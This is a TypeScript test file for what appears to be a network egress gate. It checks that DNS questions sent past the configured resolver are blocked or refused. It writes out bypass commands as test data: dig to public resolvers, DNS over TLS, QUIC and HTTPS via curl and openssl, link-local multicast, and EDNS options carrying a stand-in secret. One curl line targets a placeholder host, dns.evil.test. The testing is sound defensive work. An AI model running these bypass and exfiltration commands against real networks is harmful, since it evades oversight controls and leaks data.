/** B08: names asked for elsewhere, by whatever way, past the configured resolver. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";

import { RESOLVER } from "../../support/internet/addresses.ts";
import {
  ALLOWED,
  type AttackScene,
  createAttackScene,
  findObstacle,
  toPython,
} from "./support/attack-scene.ts";
import { toPolicy } from "./support/guarded-pod.ts";
import { fireAll, type Volley } from "./support/volley.ts";

/** Taken by the gate, which refuses the name. */
const PLAIN = {
  "over UDP": { name: "udp4.evil.test", server: "1.1.1.1", options: "" },
  "over UDP and IPv6": { name: "udp6.evil.test", server: "2606:4700:4700::1111", options: "" },
  "over TCP": { name: "tcp4.evil.test", server: "1.1.1.1", options: "+tcp" },
  "over TCP and IPv6": { name: "tcp6.evil.test", server: "2606:4700:4700::1111", options: "+tcp" },
} as const;

/** `secret.evil.test A`, as a DNS message. */
const QUESTION = "AAABAAABAAAAAAAABnNlY3JldARldmlsBHRlc3QAAAEAAQ";
const POST = `printf %s== ${QUESTION} | base64 -d | curl -sSk -m 3 -H content-type:application/dns-message --data-binary @-`;

/** Refused on their way. */
const REFUSED = {
  "DNS over TLS": {
    attack: "openssl s_client -connect 1.1.1.1:853 </dev/null",
    status: 1,
    destinations: ["tcp 1.1.1.1 853"],
  },
  "DNS over TLS and IPv6": {
    attack: "openssl s_client -connect '[2606:4700:4700::1111]:853' </dev/null",
    status: 1,
    destinations: ["tcp 2606:4700:4700::1111 853"],
  },
  "DNS over QUIC": {
    attack: toSending([
      ["1.1.1.1", 853],
      ["2606:4700:4700::1111", 853],
    ]),
    status: 2,
    destinations: ["udp 1.1.1.1 853", "udp 2606:4700:4700::1111 853"],
  },
  "DNS over HTTPS by GET": {
    attack: `curl -sSk -m 3 'https://1.1.1.1/dns-query?dns=${QUESTION}'`,
    status: 7,
    destinations: ["tcp 1.1.1.1 443"],
  },
  "DNS over HTTPS by POST": {
    attack: `${POST} https://9.9.9.9/dns-query`,
    status: 7,
    destinations: ["tcp 9.9.9.9 443"],
  },
  "DNS over HTTPS by curl itself": {
    attack: `curl -sSk -m 3 --doh-insecure --doh-url https://8.8.8.8/dns-query https://${ALLOWED.name}/`,
    status: 6,
    destinations: ["tcp 8.8.8.8 443"],
  },
  "an odd port over UDP": {
    attack: "dig +tries=1 +time=1 -p 5353 @203.0.113.66 odd.evil.test",
    status: 9,
    destinations: ["udp 203.0.113.66 5353"],
  },
  "an odd port over TCP": {
    attack: "dig +tcp +tries=1 +time=1 -p 5353 @203.0.113.66 odd.evil.test",
    status: 9,
    destinations: ["tcp 203.0.113.66 5353"],
  },
  "mDNS, LLMNR and NetBIOS on the link": {
    attack: toSending([
      ["224.0.0.251", 5353],
      ["ff02::fb", 5353],
      ["224.0.0.252", 5355],
      ["ff02::1:3", 5355],
      ["255.255.255.255", 137],
    ]),
    status: 5,
    destinations: [
      "udp 224.0.0.251 5353",
      "udp ff02::fb 5353",
      "udp 224.0.0.252 5355",
      "udp ff02::1:3 5355",
      "udp 255.255.255.255 137",
    ],
  },
} as const;

const MARKED = "marked.github.test";
const OTHERS = {
  "an allowed name": `dig +short +tries=1 +time=2 @1.1.1.1 ${ALLOWED.name}`,
  "a resolver by name": `curl -sSk -m 3 https://dns.evil.test/dns-query?dns=${QUESTION}`,
  // 5ec2e7 stands for a secret; so do the address of the client and the case of the letters.
  options: `dig +short +subnet=198.18.7.0/24 +nsid +cookie=0123456789abcdef +ednsopt=65001:5ec2e7 @9.9.9.9 ${MARKED}`,
} as const;

const ATTACKS: Readonly<Record<string, string>> = {
  ...Object.fromEntries(
    Object.entries(PLAIN).map(([way, { name, server, options }]) => [
      way,
      `dig +tries=1 +time=2 ${options} @${server} ${name}`,
    ]),
  ),
  ...Object.fromEntries(Object.entries(REFUSED).map(([way, { attack }]) => [way, attack])),
  ...OTHERS,
};

/** Ends with how many of the messages could not be sent. */
function toSending(places: readonly (readonly [ip: string, port: number])[]): string {
  return toPython(`
import ipaddress, socket, sys
question = bytes.fromhex("000001000001000000000000") + b"\\x06secret\\x04evil\\x05local\\x00\\x00\\x01\\x00\\x01"
refused = 0
for ip, port in ${JSON.stringify(places)}:
    family = socket.AF_INET if ipaddress.ip_address(ip).version == 4 else socket.AF_INET6
    sender = socket.socket(family, socket.SOCK_DGRAM)
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    try:
        sender.sendto(question, (ip, port))
    except PermissionError:
        refused += 1
sys.exit(refused)`);
}

const obstacle = findObstacle();
describe.skipIf(obstacle !== "")(`names asked for elsewhere${obstacle}`, () => {
  const stack = new AsyncDisposableStack();
  let volley: Volley;
  beforeAll(async () => {
    const { internet, pod }: AttackScene = stack.use(await createAttackScene());
    await internet.dns.add({ name: MARKED, type: "A", data: "198.51.100.11" });
    const policy = toPolicy({ allow: [ALLOWED.name, MARKED] });
    volley = await fireAll(pod, ATTACKS, { policy });
  });
  afterAll(() => stack.disposeAsync());

  test.each(Object.entries(PLAIN))(
    "a question %s to another resolver ends at the gate",
    (way, { name, server }) => {
      const shot = volley.shot(way);

      expect(shot.stdout).toContain("NXDOMAIN");
      expect(shot.stdout).toContain("not allowed by policy");
      expect(shot.dnsQueries).toMatchObject([
        { name, type: "A", verdict: "blocked", rule: "default", answers: [] },
      ]);
      expect(shot.connections).toMatchObject([
        {
          destination: { ip: server, port: 53 },
          verdict: "blocked",
          rule: "untrusted-resolver",
        },
      ]);
    },
  );

  test.each(Object.entries(REFUSED))("%s is refused", (way, { status, destinations }) => {
    const shot = volley.shot(way);

    expect(shot.status).toBe(status);
    const { blocked } = shot;
    expect(blocked.map((it) => it.text)).toEqual(destinations);
    for (const { rule, packetsRefused = 0 } of blocked) {
      expect(rule).toBe("default");
      expect(packetsRefused).toBeGreaterThan(0);
    }
  });

  test("a resolver that has a name is not found", () => {
    const shot = volley.shot("a resolver by name");

    expect(shot.stderr).toContain("Could not resolve host: dns.evil.test");
    expect(shot.dnsQueries).toMatchObject([
      { name: "dns.evil.test", verdict: "blocked" },
      { name: "dns.evil.test", verdict: "blocked" },
    ]);
  });

  test("an allowed name asked for elsewhere is answered by the configured resolver", () => {
    const shot = volley.shot("an allowed name");

    expect(shot.stdout).toBe(`${ALLOWED.ipv4}\n`);
    expect(volley.run.questions).toContainEqual(expect.objectContaining({ name: ALLOWED.name }));
  });

  test("what a question carries besides its name stays here", () => {
    expect(volley.shot("options").stdout).toBe("198.51.100.11\n");
    expect(volley.run.questions).toContainEqual(expect.objectContaining({ name: MARKED }));
    const sent = Buffer.concat(volley.run.packets.map(({ bytes }) => bytes));
    expect(sent.includes(Buffer.from("5ec2e7", "hex"))).toBe(false);
    expect(sent.includes(Buffer.from("0123456789abcdef", "hex"))).toBe(false);
    expect(sent.includes(Buffer.from([198, 18, 7]))).toBe(false);
  });

  test("nothing but questions for allowed names has left the pod, and the job has gone on", () => {
    const { run } = volley;

    expect(run.status).toBe(0);
    expect(run.escaped).toEqual([]);
    expect(run.leakedQuestions).toEqual([]);
    expect(run.visits).toEqual([]);
    expect(new Set(run.questions.map(({ name }) => name))).toEqual(new Set([ALLOWED.name, MARKED]));
    expect(run.packets.length).toBeGreaterThan(0);
    expect(run.packets.every(({ destination }) => destination.ip === RESOLVER.ipv4)).toBe(true);
  });
});
